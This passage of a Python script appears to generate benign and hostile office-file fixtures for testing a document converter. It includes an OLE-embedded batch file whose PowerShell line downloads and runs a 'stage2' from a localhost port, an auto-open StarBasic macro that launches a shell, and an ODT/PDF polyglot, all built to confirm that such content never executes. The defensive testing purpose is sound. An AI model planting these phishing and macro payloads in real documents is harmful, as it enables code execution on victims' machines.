    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b""))


def hostile_ole_object_pptx():
    """A slide with an embedded OLE package (the 'click to open' file of
    phishing decks: a batch file) and its preview picture. Only the
    preview's pixels may come out."""
    payload = b"@echo off\r\npowershell -c \"iwr http://127.0.0.1:47913/stage2 | iex\"\r\n"
    ole = cfb({"\x01Ole10Native": ole10native("invoice.bat", payload),
               "\x01CompObj": b"\x01\x00\xfe\xff\x03\x0a\x00\x00\xff\xff\xff\xff" + b"\x0c\x00\x03\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
               + struct.pack("<I", 8) + b"Package\0" + struct.pack("<I", 0) + struct.pack("<I", 8) + b"Package\0" + struct.pack("<I", 0x71B239F4)})
    preview = png_image(64, 64, lambda x, y: (200, 40, 40) if (x // 8 + y // 8) % 2 else (250, 250, 250))
    frame = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>'
        f'<p:xfrm><a:off x="{40 * EMU}" y="{300 * EMU}"/><a:ext cx="{160 * EMU}" cy="{160 * EMU}"/></p:xfrm>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        f'<p:oleObj spid="_x0000_s1026" name="Packager Shell Object" r:id="rIdOle" imgW="{160 * EMU}" imgH="{160 * EMU}" progId="Package">'
        '<p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        '<p:blipFill><a:blip r:embed="rIdPreview"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
        f'<p:spPr><a:xfrm><a:off x="{40 * EMU}" y="{300 * EMU}"/><a:ext cx="{160 * EMU}" cy="{160 * EMU}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
        "</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"
    )
    slide = p_slide(p_textbox(2, 40, 60, 640, 80, TITLE, 36) + p_textbox(3, 40, 160, 640, 100, "Open the attached invoice.", 24) + frame)
    return pptx(
        [slide],
        extra_parts=[("ppt/embeddings/oleObject1.bin", ole, False), ("ppt/media/image1.png", preview, True)],
        defaults=[("bin", "application/vnd.openxmlformats-officedocument.oleObject"), ("png", "image/png")],
        slide_rels={0: [("rIdOle", NS_REL + "/oleObject", "../embeddings/oleObject1.bin", False),
                        ("rIdPreview", NS_REL + "/image", "../media/image1.png", False)]},
    )


# ---------------------------------------------------------------- OpenDocument

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:ooo="http://openoffice.org/2004/office" '
    'office:version="1.3"'
)
ODF = "application/vnd.oasis.opendocument."


def odf(kind, body_xml, styles_xml="", extra=(), first_extra=(), comment=b""):
    """An OpenDocument package: `mimetype` first and stored (the format's
    rule, what detection reads), the manifest, content.xml. `extra` and
    `first_extra` are (name, bytes, media type), the latter stored right
    after mimetype."""
    mime = ODF + kind
    manifest_entries = [("/", mime), ("content.xml", "text/xml")] + [(name, media) for name, _, media in list(first_extra) + list(extra)]
    manifest = (
        XML_HEAD + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        + "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{m}"/>' for p, m in manifest_entries)
        + "</manifest:manifest>"
    )
    content = (
        XML_HEAD + f"<office:document-content {ODF_NS}><office:automatic-styles>{styles_xml}</office:automatic-styles>"
        f"<office:body>{body_xml}</office:body></office:document-content>"
    )
    entries = [("mimetype", mime, True)] + [(name, data, True) for name, data, _ in first_extra] + [
        ("META-INF/manifest.xml", manifest, False),
        ("content.xml", content, False),
    ] + [(name, data, False) for name, data, _ in extra]
    return zip_bytes(entries, comment=comment)


def odt_styles():
    return (
        '<style:style style:name="Title" style:family="paragraph"><style:paragraph-properties fo:margin-bottom="0.4cm"/>'
        '<style:text-properties style:font-name="DejaVu Sans" fo:font-family="DejaVu Sans" fo:font-size="28pt" fo:font-weight="bold"/></style:style>'
        '<style:style style:name="Body" style:family="paragraph"><style:paragraph-properties fo:margin-bottom="0.4cm"/>'
        '<style:text-properties style:font-name="DejaVu Sans" fo:font-family="DejaVu Sans" fo:font-size="14pt"/></style:style>'
    )


def odt_text(title, body):
    return (f'<office:text><text:p text:style-name="Title">{xml_escape(title)}</text:p>'
            + "".join(f'<text:p text:style-name="Body">{xml_escape(s)}</text:p>' for s in body) + "</office:text>")


def benign_odt():
    return odf("text", odt_text(TITLE, BODY), odt_styles())


def benign_ods():
    def cell(v):
        if isinstance(v, str):
            return f'<table:table-cell office:value-type="string"><text:p>{xml_escape(v)}</text:p></table:table-cell>'
        return f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p></table:table-cell>'
    rows = [[TITLE], ["Fruit", "Crates"]] + [list(r) for r in HARVEST]
    body = (
        '<office:spreadsheet><table:table table:name="Harvest">'
        '<table:table-column table:style-name="Wide"/><table:table-column/>'
        + "".join("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows)
        + '<table:table-row><table:table-cell office:value-type="string"><text:p>Total</text:p></table:table-cell>'
        '<table:table-cell table:formula="of:=SUM([.B3:.B6])" office:value-type="float" office:value="1180"><text:p>1180</text:p></table:table-cell></table:table-row>'
        "</table:table></office:spreadsheet>"
    )
    styles = '<style:style style:name="Wide" style:family="table-column"><style:table-column-properties style:column-width="12cm"/></style:style>'
    return odf("spreadsheet", body, styles)


def draw_text_frame(x_cm, y_cm, w_cm, h_cm, text, style):
    return (f'<draw:frame draw:text-style-name="{style}" svg:x="{x_cm}cm" svg:y="{y_cm}cm" svg:width="{w_cm}cm" svg:height="{h_cm}cm">'
            f'<draw:text-box><text:p text:style-name="{style}">{xml_escape(text)}</text:p></draw:text-box></draw:frame>')


def draw_styles():
    return (
        '<style:style style:name="Big" style:family="paragraph"><style:text-properties fo:font-family="DejaVu Sans" fo:font-size="32pt"/></style:style>'
        '<style:style style:name="Small" style:family="paragraph"><style:text-properties fo:font-family="DejaVu Sans" fo:font-size="20pt"/></style:style>'
    )


def benign_odp():
    pages = [
        draw_text_frame(2, 2, 24, 3, TITLE, "Big") + draw_text_frame(2, 6, 24, 4, BODY[0], "Small"),
        draw_text_frame(2, 2, 24, 4, BODY[1], "Small") + draw_text_frame(2, 8, 24, 4, BODY[2], "Small"),
    ]
    body = "<office:presentation>" + "".join(
        f'<draw:page draw:name="page{i + 1}" draw:master-page-name="Default">{p}</draw:page>' for i, p in enumerate(pages)
    ) + "</office:presentation>"
    return odf("presentation", body, draw_styles())


def benign_odg():
    shapes = (
        draw_text_frame(2, 2, 17, 3, TITLE, "Big")
        + '<draw:rect svg:x="2cm" svg:y="7cm" svg:width="6cm" svg:height="4cm"/>'
        + '<draw:ellipse svg:x="10cm" svg:y="7cm" svg:width="6cm" svg:height="4cm"/>'
        + draw_text_frame(2, 13, 17, 3, BODY[0], "Small")
    )
    body = f'<office:drawing><draw:page draw:name="page1" draw:master-page-name="Default">{shapes}</draw:page></office:drawing>'
    return odf("graphics", body, draw_styles())


def hostile_macro_odt():
    """An ODT whose Basic macro is bound to the document's open event: if
    it ran it would replace the text with MACRO RAN and try to start a
    shell. Macros must never run."""
    module = (
        XML_HEAD + '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">'
        '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
        "Sub OnOpen\n"
        '  ThisComponent.Text.setString("MACRO RAN")\n'
        '  Shell("/bin/sh", 0, "-c ""touch /tmp/pw-macro-ran""")\n'
        "End Sub\n"
        "</script:module>"
    )
    library = (
        XML_HEAD + '<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd">'
        '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false">'
        '<library:element library:name="Module1"/></library:library>'
    )
    libraries = (
        XML_HEAD + '<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">'
        '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<library:library library:name="Standard" library:link="false"/></library:libraries>'
    )
    events = (
        '<office:scripts><office:event-listeners>'
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.OnOpen?language=Basic&amp;location=document" xlink:type="simple"/>'
        "</office:event-listeners></office:scripts>"
    )
    mime = ODF + "text"
    content = (
        XML_HEAD + f"<office:document-content {ODF_NS}>{events}<office:automatic-styles>{odt_styles()}</office:automatic-styles>"
        f"<office:body>{odt_text(TITLE, BODY)}</office:body></office:document-content>"
    )
    manifest = (
        XML_HEAD + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zip_bytes([
        ("mimetype", mime, True),
        ("META-INF/manifest.xml", manifest, False),
        ("content.xml", content, False),
        ("Basic/script-lc.xml", libraries, False),
        ("Basic/Standard/script-lb.xml", library, False),
        ("Basic/Standard/Module1.xml", module, False),
    ])


def pdf_text_page(text):
    """A one-page PDF showing `text`, its xref offsets relative to its
    own %PDF- header (how readers treat a header that is not at 0)."""
    content = f"BT /F1 36 Tf 72 700 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return bytes(out), xref


def hostile_odt_pdf_polyglot():
    """An ODT (mimetype first, stored) that is also a valid PDF: the PDF
    rides in a stored entry right after mimetype, so `%PDF-` sits in the
    first 1024 bytes, and `startxref ... %%EOF` is the ZIP's comment, the
    last bytes of the file. A PDF reader shows "PDF SIDE"; the document is
    an ODT and must be converted as one ("ODT SIDE")."""
    pdf_body, xref = pdf_text_page("PDF SIDE of a polyglot")
    comment = b"\nstartxref\n%d\n%%%%EOF\n" % xref
    thumbnail = [("Thumbnails/document.pdf", pdf_body, "application/pdf")]
    polyglot = odf("text", odt_text("ODT SIDE of a polyglot", BODY), odt_styles(), first_extra=thumbnail, comment=comment)
    assert polyglot.index(b"%PDF-1.4") < 1024
    return polyglot


def benign_rtf():
    def par(text, size_pt, bold=False):
        return (r"{\pard\sa240" + (r"\b" if bold else "") + r"\fs%d " % (size_pt * 2) + text + r"\par}" + "\n")
    return ((r"{\rtf1\ansi\deff0{\fonttbl{\f0\fswiss DejaVu Sans;}}" + "\n" + r"\f0 ")
            + par(TITLE, 28, True) + "".join(par(s, 14) for s in BODY) + "}\n").encode("ascii")


# ---------------------------------------------------------------- legacy formats


def legacy_formats():
    """benign.doc/.xls/.ppt: LibreOffice's conversions of the OOXML ones."""
    soffice = shutil.which("soffice")
    if not soffice:
        sys.exit("--legacy needs soffice (apt-get install libreoffice-writer-nogui libreoffice-calc-nogui libreoffice-impress-nogui)")
    with tempfile.TemporaryDirectory() as tmp:
        for src, target, filt in (("benign.docx", "doc", "MS Word 97"), ("benign.xlsx", "xls", "MS Excel 97"),
                                  ("benign.pptx", "ppt", "MS PowerPoint 97")):
            subprocess.run([soffice, f"-env:UserInstallation=file://{tmp}/profile", "--headless", "--convert-to",
                            f"{target}:{filt}", "--outdir", tmp, os.path.join(HERE, src)], check=True, capture_output=True)
            name = os.path.splitext(src)[0] + "." + target
            with open(os.path.join(tmp, name), "rb") as f:
                write(name, f.read())


def main():
    write("benign.docx", benign_docx())
    write("benign.xlsx", benign_xlsx())
    write("benign.pptx", benign_pptx())
    write("benign.odt", benign_odt())
    write("benign.ods", benign_ods())
    write("benign.odp", benign_odp())
    write("benign.odg", benign_odg())
    write("benign.rtf", benign_rtf())
    write("hostile-macro-vba.docx", hostile_macro_docx())
    write("hostile-macro-onload.odt", hostile_macro_odt())
    write("hostile-remote-template.docx", hostile_remote_template_docx())
    write("hostile-external-link.xlsx", hostile_external_link_xlsx())
    write("hostile-ole-object.pptx", hostile_ole_object_pptx())
    # Minutes, not seconds: kept out of samples/, which the README's main
    # job walks; tests/office.rs runs them.
    write("../../tests/data/office/hostile-zip-bomb.docx", hostile_zip_bomb_docx(9_000_000))
    write("../../tests/data/office/hostile-million-rows.xlsx", hostile_million_rows_xlsx(1_000_000))
    write("hostile-odt-pdf-polyglot.odt", hostile_odt_pdf_polyglot())
    write("../bench/bench-10-pages.docx", bench_docx(10))
    if "--legacy" in sys.argv[1:]:
        legacy_formats()
    for name in os.listdir(HERE):
        if name.endswith((".docx", ".xlsx", ".pptx", ".odt", ".ods", ".odp", ".odg")):
            with zipfile.ZipFile(os.path.join(HERE, name)) as z:
                assert z.testzip() is None, name


if __name__ == "__main__":
    main()
